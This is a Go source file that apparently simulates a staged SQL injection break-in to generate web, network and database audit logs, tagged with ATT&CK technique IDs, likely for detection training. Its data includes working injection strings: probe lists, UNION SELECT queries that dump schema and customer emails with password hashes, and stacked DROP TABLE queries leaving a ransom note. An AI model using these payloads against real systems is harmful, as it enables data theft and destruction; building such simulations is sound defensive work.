package logs

import (
	"fmt"
	"net/url"
)

// injection is break-in F: somebody tries the search of the shop, where the web ACL
// only counts what it sees, finds the old shop, which has none, reads its database
// through the query of a page, and drops the tables. It begins at eleven in the
// evening of Korea.
func (w *world) injection(midnight int64) {
	attack := step("F")
	p := w.web.places
	address := newBlocks().brazil.random(w.r)
	const tool = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
	begin := midnight + 14*hour
	ask := func(at int64, path, query string, old bool, status, size int, took float64, of *mark) {
		r := request{address: address, country: "BR", agent: tool, method: "GET", path: path, query: query, status: status, size: size, port: 40000 + w.r.IntN(9000), old: old, took: took, mark: of}
		if !old {
			r.matched = "ALL_QUERY_ARGS"
		}
		w.at(at, func(t int64) { w.request(t, r) })
	}
	balancer := p.legacyBalancers[0]
	web := p.legacy[int(begin/second)%2]

	// First the shop, where prepared statements hold.
	probing := attack("the shop's search is tried with SQL; the web ACL counts it", "T1595.002")
	tries := []string{"'", "1'", "1' --", "1\" or \"\"=\"", "1' or 1=1 --", "1' and sleep(5) --", "1' order by %d --", "1' union select null%s --", "(select 1 from dual)", "1); select pg_sleep(3) --"}
	for i := range 80 {
		text := tries[i%len(tries)]
		switch i % len(tries) {
		case 6:
			text = fmt.Sprintf(text, 1+i/10)
		case 7:
			text = fmt.Sprintf(text, commas(i/10))
		}
		ask(begin+int64(i)*2500+w.r.Int64N(900), "/search", "q="+url.QueryEscape(text), false, 200, 8100, 0.02, probing)
	}
	w.at(begin, func(t int64) {
		w.talk(t, p.balancers[0], address, false, 42111, 443, 60_000, 700_000, 200*second, probing)
	})

	// Then the old one.
	at := begin + 25*minute
	finding := attack("the item page of the old shop answers to SQL", "T1190")
	for n := 1; n <= 12; n++ {
		status, code, sql := 200, 0, fmt.Sprintf("1 ORDER BY %d-- ", n)
		if n > 5 {
			status, code = 500, 1054 // unknown column
		}
		w.inject(at, web, sql, code, finding)
		ask(at+80, "/item.php", "id="+url.QueryEscape(sql), true, status, 900, 0.03, finding)
		at += 1500 + w.r.Int64N(900)
	}
	for range 6 {
		sql := "1 AND SLEEP(5)-- "
		w.inject(at, web, sql, 0, finding)
		ask(at+5100, "/item.php", "id="+url.QueryEscape(sql), true, 200, 2900, 5.04, finding)
		at += 7 * second
	}

	reading := attack("tables and customers are read through the page", "T1213.006")
	union := func(what string) string { return "-1 UNION ALL SELECT NULL," + what + ",NULL,NULL,NULL" }
	for _, from := range []string{"version() ", "user() ", "GROUP_CONCAT(schema_name) FROM information_schema.schemata", "GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema=database()",
		"GROUP_CONCAT(column_name) FROM information_schema.columns WHERE table_name=0x637573746f6d657273"} {
		sql := union(from) + "-- "
		w.inject(at, web, sql, 0, reading)
		ask(at+90, "/item.php", "id="+url.QueryEscape(sql), true, 200, 3400, 0.05, reading)
		at += 4 * second
	}
	for i := range 160 { // page by page
		sql := union(fmt.Sprintf("GROUP_CONCAT(mail,0x3a,name,0x3a,password_hash) FROM (SELECT * FROM customers LIMIT %d,500) x", i*500)) + "-- "
		w.inject(at, web, sql, 0, reading)
		ask(at+400, "/item.php", "id="+url.QueryEscape(sql), true, 200, 88_000+w.r.IntN(4000), 0.4, reading)
		at += 2*second + w.r.Int64N(second)
	}
	first := begin + 25*minute
	for t := first; t < at; t += 5 * minute {
		w.at(t, func(t int64) {
			w.talk(t, balancer, address, false, 43000+w.r.IntN(900), 80, 90_000, 9_500_000, 280*second, reading)
			w.inside(t, balancer, web, 80, 95_000, 9_600_000, 280*second, reading)
			w.inside(t, web, p.legacyDB, 3306, 60_000, 9_200_000, 280*second, reading)
		})
	}

	// Stacked queries: the page's driver takes several.
	at += 3 * minute
	wiping := attack("tables are dropped; there is no backup", "T1485")
	for _, sql := range []string{"DROP TABLE order_items", "DROP TABLE orders", "DROP TABLE customers", "DROP TABLE carts", "CREATE TABLE pay_to_get_back (note TEXT)", "INSERT INTO pay_to_get_back VALUES ('write to the address in the note')"} {
		w.at(at, func(t int64) {
			conn := w.connection()
			w.audit(t, web, conn, "CONNECT", "", 0, wiping)
			w.query(t+40, web, conn, "SELECT id, name, price FROM items WHERE id = 1; "+sql+"-- ", 0, wiping)
		})
		ask(at+60, "/item.php", "id="+url.QueryEscape("1; "+sql+"-- "), true, 200, 700, 0.06, wiping)
		at += 6 * second
	}
	for range 4 { // and is it gone?
		sql := union("COUNT(*) FROM customers") + "-- "
		w.inject(at, web, sql, 1146, wiping) // no such table
		ask(at+90, "/item.php", "id="+url.QueryEscape(sql), true, 500, 700, 0.02, wiping)
		at += 9 * second
	}
}

// inject is what the database notes of a page with SQL in its id.
func (w *world) inject(at int64, from *host, sql string, code int, m *mark) {
	w.at(at, func(t int64) {
		conn := w.connection()
		w.audit(t, from, conn, "CONNECT", "", 0, m)
		w.query(t+40, from, conn, "SELECT id, name, price FROM items WHERE id = "+sql, code, m)
	})
}

func (w *world) connection() int { w.db.conn++; return w.db.conn }

func commas(n int) string {
	out := ""
	for range n {
		out += ",null"
	}
	return out
}
